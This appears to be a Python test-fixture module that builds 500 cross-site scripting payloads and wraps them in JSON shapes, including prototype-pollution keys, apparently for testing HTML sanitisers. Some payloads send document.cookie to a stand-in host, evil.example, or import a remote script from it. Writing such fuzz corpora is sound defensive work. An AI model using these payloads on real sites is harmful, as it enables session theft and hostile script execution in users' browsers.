"""Five hundred texts that run if a page takes any of them for HTML, for a script or for an address."""

from __future__ import annotations

from itertools import product

__all__ = ["CORPUS", "fields"]

_SINKS = (
    "window.ran=1",
    "alert(1)",
    "fetch('http://evil.example/?c='+document.cookie)",
    "parent.ran=top.ran=1",
    "import('//evil.example/x.js')",
)
_CARRIERS = (
    "<script>%s</script>",
    "<img src=x onerror=%s>",
    "<svg onload=%s>",
    "<svg><script>%s</script></svg>",
    "<iframe srcdoc='<script>%s</script>'></iframe>",
    "<iframe src=javascript:%s></iframe>",
    "<a href=javascript:%s>link</a>",
    "javascript:%s",
    "data:text/html,<script>%s</script>",
    "<details open ontoggle=%s>",
    "<input autofocus onfocus=%s>",
    "<body onload=%s>",
    "<form action=javascript:%s><button>go</button></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=%s>",
    "<style>@import 'http://evil.example/%s.css';*{background:url(//evil.example/)}</style>",
    "<link rel=stylesheet href=//evil.example/%s><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:%s'>",
    "<object data=javascript:%s></object><embed src=//evil.example/>",
    "{{constructor.constructor('%s')()}}${%s}",
    "<template><script>%s</script></template><marquee onstart=%s>",
)
_CASES = (
    "%s",
    "\"'>%s<!--",
    "</title></style></textarea></script>%s",
    "]]>\u202e%s\x00\u2028",
    "&lt;b&gt;%s%3Cb%3E\\u003cb\\u003e",
)

CORPUS = tuple(
    case.replace("%s", carrier.replace("%s", sink)) for case, carrier, sink in product(_CASES, _CARRIERS, _SINKS)
)
assert len(set(CORPUS)) == 500


def fields(text: str) -> dict[str, object]:
    """A JSON value with the text as a text, in a list, as a key, and below keys of objects that have a meaning."""
    return {
        "text": text,
        "list": [text],
        text: text,
        "__proto__": {"innerHTML": text},
        "constructor": text,
        "stack": text,
    }
